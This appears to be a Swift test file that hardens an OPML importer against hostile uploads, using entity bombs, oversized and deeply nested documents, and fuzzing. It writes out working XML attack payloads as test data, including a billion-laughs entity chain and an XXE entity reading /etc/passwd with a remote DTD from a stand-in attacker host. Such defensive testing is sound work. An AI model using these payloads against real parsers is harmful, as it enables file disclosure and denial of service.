import Foundation
import Testing
@testable import KioskCore
import KioskTesting

/// OPML files written to hurt an importer. An upload is anyone's file, so each must end quickly,
/// in bounded memory, with a typed error or a right answer. Time bounds are generous (debug
/// build, a busy machine); where "early" matters the tests prove it by what was *not* reached.
@Suite struct HostileOPMLTests {
    private func timed<T>(_ body: () throws -> T) rethrows -> (T, Duration) {
        let clock = ContinuousClock()
        let start = clock.now
        let result = try body()
        return (result, clock.now - start)
    }

    /// The typed error of a parse, or nil when it succeeded.
    private func failure(of bytes: [UInt8], limits: OPMLLimits = .default) -> OPMLError? {
        do {
            _ = try OPML.parse(bytes, limits: limits)
            return nil
        } catch {
            return error
        }
    }

    // MARK: - Entities

    @Test func billionLaughsIsNeverExpanded() throws {
        var lines = ["<?xml version=\"1.0\"?>", "<!DOCTYPE opml [", "<!ENTITY lol \"lol\">"]
        for level in 1...9 {
            let previous = level == 1 ? "lol" : "lol\(level - 1)"
            lines.append("<!ENTITY lol\(level) \"" + String(repeating: "&\(previous);", count: 10) + "\">")
        }
        lines.append("]>")
        lines.append(
            "<opml version=\"2.0\"><head><title>&lol9;</title></head><body>"
                + "<outline text=\"&lol9;\" xmlUrl=\"https://laughs.example/&lol9;\"/></body></opml>")
        let (document, elapsed) = try timed { try OPML.parse(Array(lines.joined(separator: "\n").utf8)) }
        // The declared entity stays a literal reference: nothing was expanded.
        #expect(document.title == "&lol9;")
        #expect(document.subscriptions == [subscription("https://laughs.example/&lol9;", "&lol9;")])
        #expect(elapsed < .seconds(5))
    }

    @Test func externalEntitiesNeverReadLocalFiles() throws {
        let xml = """
            <?xml version="1.0"?>
            <!DOCTYPE opml [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
            <opml version="2.0"><head><title>&xxe;</title></head>
            <body><outline text="&xxe;" title="&xxe;" xmlUrl="https://xxe.example/?&xxe;" htmlUrl="&xxe;"/></body></opml>
            """
        let document = try OPML.parse(Array(xml.utf8))
        #expect(document.title == "&xxe;")
        let only = try #require(document.subscriptions.first)
        #expect(only.title == "&xxe;")
        #expect(only.feedURL == "https://xxe.example/?&xxe;")
        #expect(only.siteURL == "&xxe;")
        let everything = [document.title] + document.subscriptions.flatMap { [$0.title, $0.feedURL, $0.siteURL] }
        #expect(everything.allSatisfy { $0?.contains("root:") != true })
    }

    @Test func anExternalDTDIsNeverFetched() throws {
        // Nothing here does I/O at all; the declaration is skipped like any other DOCTYPE.
        let xml = """
            <?xml version="1.0"?><!DOCTYPE opml SYSTEM "http://127.0.0.1:9/never.dtd">
            <opml><body><outline text="A" xmlUrl="https://a.example/"/></body></opml>
            """
        #expect(try OPML.parse(Array(xml.utf8)).subscriptions.count == 1)
    }

    @Test func aMegabyteOfReferencesDecodesInLinearTime() throws {
        let unit = "&amp;&#169;&eacute;&lol;"
        let title = String(repeating: unit, count: 1_000_000 / unit.utf8.count)
        let xml = "<opml><body><outline text=\"\(title)\" xmlUrl=\"https://a.example/\"/></body></opml>"
        let (document, elapsed) = try timed { try OPML.parse(Array(xml.utf8)) }
        let decoded = try #require(document.subscriptions.first?.title)
        #expect(decoded.hasPrefix("&©é&lol;&©é&lol;"))
        #expect(decoded.count == 1_000_000 / unit.utf8.count * 8)
        #expect(elapsed < .seconds(20))
    }

    // MARK: - Size, count and depth

    @Test func fiftyMegabytesAreRefusedWithoutBeingRead() throws {
        let unit = Array("<outline text=\"Feed\" type=\"rss\" xmlUrl=\"https://example.com/feed.xml\"/>\n".utf8)
        var bytes = Array("<?xml version=\"1.0\"?><opml version=\"2.0\"><body>\n".utf8)
        bytes.reserveCapacity(50_000_000 + unit.count)
        while bytes.count < 50_000_000 { bytes.append(contentsOf: unit) }
        let (refusal, elapsed) = timed { failure(of: bytes) }
        #expect(refusal == .tooLarge(limit: OPMLLimits.default.maxBytes))
        // Decoding or scanning 50 MB takes seconds in a debug build; a length check takes nothing.
        #expect(elapsed < .milliseconds(500))
    }

    @Test func aHundredThousandOutlinesStopAtTheLimit() throws {
        var xml = "<opml version=\"2.0\"><body>"
        for index in 0..<100_000 { xml += "<outline xmlUrl=\"h:\(index)\"/>" }
        // What comes after the limit would fail differently if it were ever reached: nesting far
        // past maxDepth. tooManyOutlines proves the scan stopped at outline 10,001.
        xml += String(repeating: "<outline>", count: 10_000) + "</body></opml>"
        let bytes = Array(xml.utf8)
        #expect(bytes.count < OPMLLimits.default.maxBytes, "the count limit, not the size limit, must be what stops this")
        let (refusal, elapsed) = timed { failure(of: bytes) }
        #expect(refusal == .tooManyOutlines(limit: 10_000))
        #expect(elapsed < .seconds(10))
    }

    @Test func theOutlineLimitStopsTheScanWhereItIsPassed() {
        // Ten outlines, then text the scanner would need to read for a different answer.
        let xml = "<opml><body>" + String(repeating: "<outline xmlUrl=\"https://a/\"/>", count: 10)
            + "<outline>" + String(repeating: "<a>", count: 100) + "</body></opml>"
        #expect(failure(of: Array(xml.utf8), limits: OPMLLimits(maxOutlines: 10)) == .tooManyOutlines(limit: 10))
        #expect(failure(of: Array(xml.utf8), limits: OPMLLimits(maxOutlines: 11)) == .tooDeep(limit: 32))
    }

    @Test func tenThousandNestedOutlinesAreTooDeep() {
        let xml = "<opml><body>" + String(repeating: "<outline text=\"f\">", count: 10_000)
            + String(repeating: "</outline>", count: 10_000) + "</body></opml>"
        let (refusal, elapsed) = timed { failure(of: Array(xml.utf8)) }
        #expect(refusal == .tooDeep(limit: 32))
        #expect(elapsed < .seconds(5))
    }

    @Test(arguments: ["<opml><body>", "<opml><head>", "<opml>", "<opml><body><outline text=\"x\">"])
    func anyElementsNestedTooDeepAreTooDeep(prefix: String) {
        let xml = prefix + String(repeating: "<div>", count: 10_000)
        #expect(failure(of: Array(xml.utf8)) == .tooDeep(limit: 32))
    }

    @Test func manyAttributesAndStrayEndTagsStayLinear() throws {
        let attributes = String(repeating: " a=\"b\"", count: 200_000)
        let strays = String(repeating: "</outline></body>", count: 50_000)
        let xml = "<opml><body><outline\(attributes) text=\"A\" xmlUrl=\"https://a.example/\"/>\(strays)"
            + "<outline xmlUrl=\"https://b.example/\"/></body></opml>"
        let bytes = Array(xml.utf8)
        #expect(bytes.count < OPMLLimits.default.maxBytes)
        let (document, elapsed) = try timed { try OPML.parse(bytes) }
        // Stray end tags are ignored, and closing <body> early does not hide later outlines.
        #expect(document.subscriptions.map(\.feedURL) == ["https://a.example/", "https://b.example/"])
        #expect(elapsed < .seconds(20))
    }

    @Test func anUnclosedAttributeRunsToTheEndHarmlessly() throws {
        let xml = "<opml><body><outline text=\"A\" xmlUrl=\"https://a.example/" + String(repeating: "x", count: 3_000_000)
        let document = try OPML.parse(Array(xml.utf8))
        #expect(document.subscriptions.count == 1)
        #expect(document.subscriptions.first?.feedURL.count == 3_000_000 + "https://a.example/".count)
    }

    // MARK: - Not OPML

    @Test(arguments: [
        "",
        "   \n\t ",
        "just some text",
        "{\"version\": \"https://jsonfeed.org/version/1.1\", \"items\": []}",
        "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>t</title><item><outline xmlUrl=\"https://a/\"/></item></channel></rss>",
        "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>t</title></feed>",
        "<!DOCTYPE html><html><head><title>OPML</title></head><body><opml><outline xmlUrl=\"https://a/\"/></opml></body></html>",
        "<?xml version=\"1.0\"?><!-- <opml> --><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"/>",
        "<opmlx><body><outline xmlUrl=\"https://a/\"/></body></opmlx>",
        "<![CDATA[<opml><body><outline xmlUrl=\"https://a/\"/></body></opml>]]>",
    ])
    func notOPMLIsNotOPML(text: String) {
        #expect(failure(of: Array(text.utf8)) == .notOPML)
    }

    @Test func aRealFeedIsNotOPMLAndIsRejectedAtItsFirstElement() throws {
        let reuters = try [UInt8](Fixture.data("reuters_business.xml"))
        #expect(failure(of: reuters) == .notOPML)
        // A 3 MB feed is refused as fast as a small one: the root element decides.
        let large = HostileFeeds.largeRSS(bytes: 3_000_000).feed
        let (refusal, elapsed) = timed { failure(of: large) }
        #expect(refusal == .notOPML)
        #expect(elapsed < .seconds(5))
    }

    // MARK: - Damage

    @Test(arguments: OPMLFixture.all)
    func everyTruncationOfAFixtureEndsCleanly(name: String) throws {
        let bytes = try OPMLFixture.bytes(name)
        let full = try OPML.parse(bytes)
        // Where "<opml " ends in the file: any cut after it has a root element to read.
        let decoded = TextDecoding.utf8Bytes(bytes)
        let root = try #require(decoded.indices.first { decoded[$0...].starts(with: Array("<opml ".utf8)) })
        let isUTF16 = bytes.starts(with: [0xFF, 0xFE])
        let rootEnd = isUTF16 ? 2 + (root + 6) * 2 : root + 6
        for cut in 0...bytes.count {
            let prefix = Array(bytes[..<cut])
            do {
                let document = try OPML.parse(prefix)
                #expect(document.subscriptions.count <= full.subscriptions.count + 1)
            } catch {
                #expect(error == .notOPML)
                // TextDecoding reads UTF-16 that ends in half a code unit, or in half a surrogate
                // pair (a cut through an emoji), as Windows-1252: no root is left to find. Those
                // cuts are a clean notOPML; every other cut past the root must keep it.
                let splitsUTF16 = isUTF16 && cut > 0 && (cut % 2 == 1 || (0xD8...0xDB).contains(bytes[cut - 1]))
                if !splitsUTF16 { #expect(cut < rootEnd, "the cut at \(cut) lost the root") }
            }
        }
    }

    @Test func garbledFixturesNeverCrash() throws {
        var generator = SplitMix64(seed: 7)
        for name in OPMLFixture.all {
            let bytes = try OPMLFixture.bytes(name)
            for _ in 0..<100 {
                var garbled = bytes
                for _ in 0..<20 {
                    let index = Int.random(in: 0..<garbled.count, using: &generator)
                    garbled[index] = UInt8.random(in: 0...255, using: &generator)
                }
                checkInvariants(garbled)
            }
        }
    }

    @Test func randomBytesNeverCrash() {
        var generator = SplitMix64(seed: 42)
        for length in [1, 2, 3, 7, 64, 1_000, 100_000] {
            for _ in 0..<20 {
                let noise = (0..<length).map { _ in UInt8.random(in: 0...255, using: &generator) }
                checkInvariants(noise)
                checkInvariants(Array("<opml><body>".utf8) + noise)
            }
        }
    }

    @Test func randomSoupOfOPMLTokensKeepsTheInvariants() {
        let tokens = [
            "<outline", " text=\"F\"", " title='T'", " xmlUrl=\"https://a/\"", " xmlUrl=\"https://b/\"", " XMLURL=",
            " htmlUrl=\"https://s/\"", " xmlUrl=\" \"", ">", "/>", "</outline>", "</body>", "<body>", "<head>", "</head>",
            "<title>", "</title>", "&amp;", "&#10;", "&lol;", "&#x", "<!--", "-->", "<![CDATA[", "]]>", "<!DOCTYPE opml [",
            "]>", "\"", "'", "<", "&", " ", "\n", "é", "\u{0}", "<?xml version=\"1.0\"?>", "</opml>",
        ]
        var generator = SplitMix64(seed: 2024)
        for _ in 0..<2_000 {
            var soup = "<opml>"
            for _ in 0..<Int.random(in: 1...200, using: &generator) {
                soup += tokens[Int.random(in: 0..<tokens.count, using: &generator)]
            }
            checkInvariants(Array(soup.utf8), limits: OPMLLimits(maxOutlines: 50, maxDepth: 12))
        }
    }

    /// Whatever the input: a typed error, or a document whose promises hold.
    private func checkInvariants(_ bytes: [UInt8], limits: OPMLLimits = .default, sourceLocation: SourceLocation = #_sourceLocation) {
        let document: OPMLDocument
        do {
            document = try OPML.parse(bytes, limits: limits)
        } catch {
            let allowed: Set<OPMLError> = [
                .notOPML, .tooLarge(limit: limits.maxBytes), .tooManyOutlines(limit: limits.maxOutlines),
                .tooDeep(limit: limits.maxDepth),
            ]
            #expect(allowed.contains(error), sourceLocation: sourceLocation)
            return
        }
        let urls = document.subscriptions.map(\.feedURL)
        #expect(Set(urls).count == urls.count, "no duplicate addresses", sourceLocation: sourceLocation)
        #expect(document.duplicates.allSatisfy { urls.contains($0.feedURL) }, sourceLocation: sourceLocation)
        #expect(document.subscriptions.count + document.duplicates.count <= limits.maxOutlines, sourceLocation: sourceLocation)
        for subscription in document.subscriptions + document.duplicates {
            #expect(!subscription.feedURL.isEmpty, sourceLocation: sourceLocation)
            #expect(subscription.feedURL.trimmingASCIIWhitespace == subscription.feedURL, sourceLocation: sourceLocation)
            #expect(subscription.title?.isEmpty != true, sourceLocation: sourceLocation)
            #expect(subscription.folder?.isEmpty != true, sourceLocation: sourceLocation)
        }
    }
}
